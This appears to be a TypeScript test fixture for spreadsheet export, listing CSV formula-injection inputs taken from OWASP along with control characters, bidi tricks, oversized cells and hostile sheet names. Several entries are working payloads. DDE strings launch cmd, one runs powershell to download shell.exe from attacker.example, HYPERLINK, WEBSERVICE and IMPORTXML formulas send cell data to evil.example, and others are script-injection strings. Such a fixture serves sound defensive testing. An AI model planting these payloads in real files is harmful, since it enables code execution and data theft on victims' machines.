/**
 * The injection corpus: OWASP "CSV Injection" payloads (DDE, HYPERLINK, WEBSERVICE), leading
 * whitespace and control characters before "=", bidi and zero-width characters, emoji, markup,
 * and text at and over Excel's 32,767-character cell limit.
 */
export const LONG_AT_LIMIT = 'L'.repeat(32_767);
export const LONG_OVER_LIMIT = 'O'.repeat(40_000);

export const HOSTILE: string[] = [
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '+HYPERLINK("http://evil.example/?x="&A1,"click")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=HYPERLINK("http://evil/?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=INDIRECT("A1")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=1/0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "\r\n=cmd|' /C calc'!A0",
  '\u0001=1+1',
  '\u0007bell \u001b[31mred',
  '\u202e=1+1 gnp.exe',
  '\u200b=1+1',
  '😀 =1+1 👩‍🏫',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  "'=quoted",
  '_x0041_ stays as typed',
  '0123',
  '5%',
  'TRUE',
  LONG_AT_LIMIT,
  LONG_OVER_LIMIT,
];

/** Hostile names that are legal sheet names (≤ 31 characters, none of : \ / ? * [ ], no quote at either end). */
export const HOSTILE_SHEETS = [
  "=cmd|' calc'!A0",
  '@SUM(1+1)',
  '-2+3+cmd',
  '<img src=x onerror=alert(1)>',
  "O'Brien =1+1",
];
